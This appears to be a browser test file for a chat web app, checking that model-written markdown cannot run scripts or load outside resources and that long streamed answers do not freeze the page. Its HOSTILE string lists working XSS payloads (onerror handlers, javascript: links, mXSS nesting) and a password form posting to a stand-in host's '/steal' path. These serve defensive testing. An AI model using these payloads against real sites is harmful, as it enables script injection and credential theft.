// What a model writes does nothing: whatever it is, it is text on the page. And however long it is, the page stays alive.
import { describe, expect, it } from 'vitest';
import { HAS_BROWSER } from '../../server/testing/browser.js';
import { usePages } from './open-page.js';
import { answer, isWhole, say } from './talk.js';
import { traceTasks } from './tasks.js';

const LONGEST_TASK_MS = 200;
const HOST = 'http://192.0.2.1';
const HOSTILE = `# Harmless
<script>document.title = 'owned'</script>
<img src=x onerror="document.title='owned'">
![beacon](${HOST}/beacon.png)
![data](data:image/svg+xml;base64,PHN2Zy8+)
[plain](javascript:document.title='owned')
[cased](JaVaScRiPt:document.title='owned')
[entity](&#106;avascript:document.title='owned')
[data link](data:text/html,<script>document.title='owned'</script>)
[of the gateway](/admin/keys)
<javascript:document.title='owned'>
<a href="javascript:document.title='owned'" onclick="document.title='owned'">raw link</a>
<style>@import url(${HOST}/style.css); body { display: none }</style>
<iframe src="${HOST}/frame"></iframe>
<form action="${HOST}/steal"><input name="password"><button>Send</button></form>
<svg onload="document.title='owned'"><a xlink:href="javascript:document.title='owned'"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="document.title='owned'"></style></mglyph></table></mtext></math>
<link rel="stylesheet" href="${HOST}/link.css"><meta http-equiv="refresh" content="0;url=${HOST}">
<video src="${HOST}/v.mp4" autoplay></video><object data="${HOST}/o"></object><embed src="${HOST}/e">

\`\`\`html
</code></pre><img src=x onerror="document.title='owned'">
\`\`\`

\`\`\`"><img/src=x/onerror=document.title='owned'>
code
\`\`\`

| a | b |
|---|---|
| <img src=x onerror=document.title='owned'> | ![t](${HOST}/t.png) |

- [x] done <b onmouseover="document.title='owned'">bold</b>

[reference]: ${HOST}/reference
[fine](https://example.com/page?a=1&b=2)
`;
/** All that an answer may consist of. */
const TAGS = new Set(
  'DIV P BR HR H1 H2 H3 H4 H5 H6 STRONG EM DEL CODE PRE BLOCKQUOTE UL OL LI A TABLE THEAD TBODY TR TH TD SPAN INPUT'.split(
    ' ',
  ),
);

describe.skipIf(!HAS_BROWSER)('what a model writes', () => {
  const { start, open } = usePages();

  it('runs nothing, loads nothing and looks like nothing of the page itself', async () => {
    const app = await start({
      plan: { rules: [{ match: 'GO', text: HOSTILE, tokens: 10_000 }] },
    });
    const { page, context, faults } = await open(app.url);
    await say(page, 'GO');
    await isWhole(page);
    await answer(page).getByText('fine').waitFor();
    const found = await answer(page).evaluate(place =>
      [...place.querySelectorAll('*')].map(({ tagName, attributes }) => ({
        tagName,
        attributes: [...attributes].map(({ name, value }) => [name, value] as const),
      })),
    );
    expect(found.filter(({ tagName }) => !TAGS.has(tagName.toUpperCase()))).toEqual([]);
    for (const [name, value] of found.flatMap(({ attributes }) => attributes)) {
      expect(['class', 'href', 'target', 'rel', 'type', 'checked', 'disabled', 'align', 'start']).toContain(
        name,
      );
      if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:)/);
      if (name === 'class') expect(value).toMatch(/^(?:block|hljs[\w -]*|language-[\w+#-]+)$/);
    }
    const links = await answer(page)
      .locator('a[href]')
      .evaluateAll(all => all.map(link => link.getAttribute('href')));
    expect(links).toContain('https://example.com/page?a=1&b=2');
    // Every link that leads nowhere is clicked on, and everything is hovered over.
    for (const link of await answer(page).locator('a:not([href])').all()) await link.click();
    await answer(page).getByText('bold').first().hover();
    expect(await page.title()).toBe('Chat · minivault');
    expect(context.pages()).toHaveLength(1);
    expect(faults).toEqual([]);
    expect(await answer(page).innerText()).toContain("<script>document.title = 'owned'</script>");
  });

  it('would be found out where it held the page up', async () => {
    const app = await start({ vault: false });
    const { page } = await open(app.url);
    await page.locator('.state.good').waitFor();
    const tasks = await traceTasks(page);
    // Long enough to have had a core for that long, also where others want it.
    await page.evaluate(() => {
      for (const endMs = performance.now() + 3_000; performance.now() < endMs; );
    });
    expect(Math.max(...(await tasks.end()))).toBeGreaterThan(LONGEST_TASK_MS);
  });

  it.each([
    ['paragraphs and code', manyBlocks()],
    ['one list', Array.from({ length: 2_000 }, (_, line) => `- item ${line} of the list`).join('\n')],
    [
      'one block of code',
      `\`\`\`js\n${Array.from({ length: 2_000 }, (_, line) => `const value${line} = ${line};`).join('\n')}\n\`\`\``,
    ],
    ['one paragraph', Array.from({ length: 2_000 }, (_, line) => `Line ${line} of the text`).join('\n')],
    [
      'one table',
      `| a | b |\n|---|---|\n${Array.from({ length: 2_000 }, (_, line) => `| ${line} | cell |`).join('\n')}`,
    ],
  ])('holds the page up nowhere while 2,000 lines of it come: %s', { timeout: 90_000 }, async (_, text) => {
    const app = await start({
      vault: false,
      plan: { context_length: 100_000, rules: [{ match: 'GO', text, tokens: 50_000, gap_ms: 0.2 }] },
    });
    const { page } = await open(app.url);
    await page.getByRole('button', { name: 'Settings' }).click();
    await page.getByLabel('Longest answer').fill('50000');
    await page.getByRole('button', { name: 'Settings' }).click();
    const tasks = await traceTasks(page);
    await say(page, 'GO');
    await page.locator('.turn .answer[aria-busy=false]').waitFor({ timeout: 80_000 });
    const longest = Math.max(...(await tasks.end()));
    const shown = await answer(page).innerText();
    expect(shown.split('\n').length).toBeGreaterThanOrEqual(2_000);
    expect(longest).toBeLessThan(LONGEST_TASK_MS);
  });
});

function manyBlocks(): string {
  const block = (number: number): string =>
    [
      `## Part ${number}`,
      `A paragraph with **bold** words, \`code\` and [a link](https://example.com/${number}).`,
      '',
      '```python',
      `def f${number}(x):`,
      `    return x + ${number}`,
      '```',
      '',
      '- one',
      '- two',
    ].join('\n');
  return Array.from({ length: 260 }, (_, number) => block(number)).join('\n\n');
}
